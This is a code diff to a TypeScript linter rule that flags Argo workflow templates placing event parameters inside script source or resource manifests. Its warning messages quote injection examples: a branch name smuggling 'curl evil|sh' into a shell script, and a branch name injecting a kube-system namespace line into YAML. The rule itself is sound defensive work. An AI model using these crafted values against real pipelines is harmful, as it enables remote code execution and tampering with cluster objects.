@@ -157,6 +157,12 @@ export function checkEventValuesStayOutOfShell(r: Reporter, workflowTemplate: Re
         r.report('ARG350', [...at, 'script', 'source'], `template ${quote(name)} puts ${quote(`{{${ref}}}`)} — ${origin} — inside script source, where a crafted value (a branch named x";curl evil|sh;") becomes code`, hint);
       }
     }
+    const resource = isRecord(t['resource']) ? t['resource'] : undefined;
+    if (resource && typeof resource['manifest'] === 'string') {
+      for (const ref of taintedRefs(resource['manifest'], eventParameters, own)) {
+        r.report('ARG350', [...at, 'resource', 'manifest'], `template ${quote(name)} puts ${quote(`{{${ref}}}`)} — ${origin} — inside a resource manifest, where a crafted value (a branch name holding a line break and "  namespace: kube-system") adds or changes fields of the object created`, 'pass the value through a field that is not parsed as YAML (a ConfigMap key via a separate step, a label sanitised by an earlier step), or validate it in a step before the resource is created');
+      }
+    }
     const containers = [
       ...(isRecord(t['container']) ? [['container', t['container']] as const] : []),
       ...(script ? [['script', script] as const] : []),
